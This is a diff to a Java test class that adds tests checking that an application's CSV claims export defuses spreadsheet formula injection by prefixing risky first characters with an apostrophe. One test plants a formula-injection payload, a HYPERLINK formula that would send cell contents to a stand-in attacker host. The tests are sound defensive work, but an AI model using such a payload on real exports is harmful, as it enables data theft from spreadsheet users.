@@ -37,6 +37,34 @@ class ExportsTest {
     }
 
     @Test
+    void textThatWouldStartASpreadsheetFormulaReachesTheCsvAsPlainText() throws IOException {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") " + Desk.uniqueText("formula");
+        long planted = Desk.submit(EDNA, formula, "@SUM(1+1)").jsonPath().getLong("id");
+        long negative = Desk.submit(EDNA, "-5% " + Desk.uniqueText("growth, said the minister"), "+Minister").jsonPath().getLong("id");
+
+        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(Desk.as(EDNA).accept("text/csv").get("/api/v1/exports/claims.csv").asString()))
+                .getRecords();
+
+        CSVRecord first = rows.stream().filter(r -> r.get("id").equals(Long.toString(planted))).findFirst().orElseThrow();
+        assertThat(first.get("text")).isEqualTo("'" + formula);
+        assertThat(first.get("claimant")).isEqualTo("'@SUM(1+1)");
+        CSVRecord second = rows.stream().filter(r -> r.get("id").equals(Long.toString(negative))).findFirst().orElseThrow();
+        assertThat(second.get("text")).startsWith("'-5% growth");
+        assertThat(second.get("claimant")).isEqualTo("'+Minister");
+        assertThat(second.get("id")).isEqualTo(Long.toString(negative));
+    }
+
+    @Test
+    void aSpreadsheetFormulaStartIsNeutralisedWhateverItsFirstCharacter() {
+        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
+            assertThat(ExportsResource.asText(start + "1+1")).isEqualTo("'" + start + "1+1");
+        }
+        assertThat(ExportsResource.asText("A claim that says = nothing")).isEqualTo("A claim that says = nothing");
+        assertThat(ExportsResource.asText("")).isEmpty();
+    }
+
+    @Test
     void reviewersCannotExportTheDesk() {
         Desk.as(RITA).accept("text/csv").get("/api/v1/exports/claims.csv").then().statusCode(403);
     }
